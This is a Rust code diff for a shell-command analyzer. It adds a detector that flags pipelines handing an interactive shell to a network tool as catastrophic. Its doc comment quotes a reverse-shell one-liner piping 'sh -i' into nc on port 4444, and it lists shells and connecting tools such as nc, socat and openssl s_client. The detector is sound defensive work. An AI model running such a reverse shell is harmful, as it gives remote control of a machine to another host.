@@ -81,6 +81,9 @@ impl Machine<'_> {
         if first.is_empty() {
             return self.node(last, input);
         }
+        if hands_a_shell(pipeline) {
+            self.note(Class::Catastrophic, "net.tunnel", "hands a shell to another host");
+        }
         let forked = std::mem::replace(&mut self.forked, true);
         let mut flow = input;
         for stage in first {
@@ -201,4 +204,30 @@ impl Machine<'_> {
     pub(super) fn subshell(&mut self, list: &List, input: Option<Value>) -> Value {
         self.apart(|machine| machine.list(list, input))
     }
+}
+
+/// Whether a shell that reads commands writes to a program that connects: `sh -i </tmp/f 2>&1 | nc host 4444 >/tmp/f`.
+fn hands_a_shell(pipeline: &Pipeline) -> bool {
+    const SHELLS: [&str; 6] = ["sh", "bash", "dash", "zsh", "ksh", "ash"];
+    const CONNECT: [&str; 5] = ["nc", "ncat", "netcat", "socat", "telnet"];
+    let words = |node: &Node| -> Vec<String> {
+        let Command::Simple(simple) = &node.command else { return Vec::new() };
+        let text = |parts: &[Part]| match parts {
+            [Part::Literal(text)] => text.rsplit('/').next().unwrap_or("").to_owned(),
+            _ => String::new(),
+        };
+        simple.words.iter().map(|word| text(&word.parts)).collect()
+    };
+    let stages: Vec<Vec<String>> = pipeline.stages.iter().map(words).collect();
+    let shell = |words: &Vec<String>| {
+        words.split_first().is_some_and(|(first, rest)| {
+            SHELLS.contains(&first.as_str()) && rest.iter().all(|word| word.starts_with('-') && !word.contains('c'))
+        })
+    };
+    let connects = |words: &Vec<String>| match words.as_slice() {
+        [first, second, ..] if first == "openssl" => second == "s_client",
+        [first, ..] => CONNECT.contains(&first.as_str()),
+        [] => false,
+    };
+    stages.iter().position(shell).is_some_and(|at| stages[at + 1..].iter().any(connects))
 }
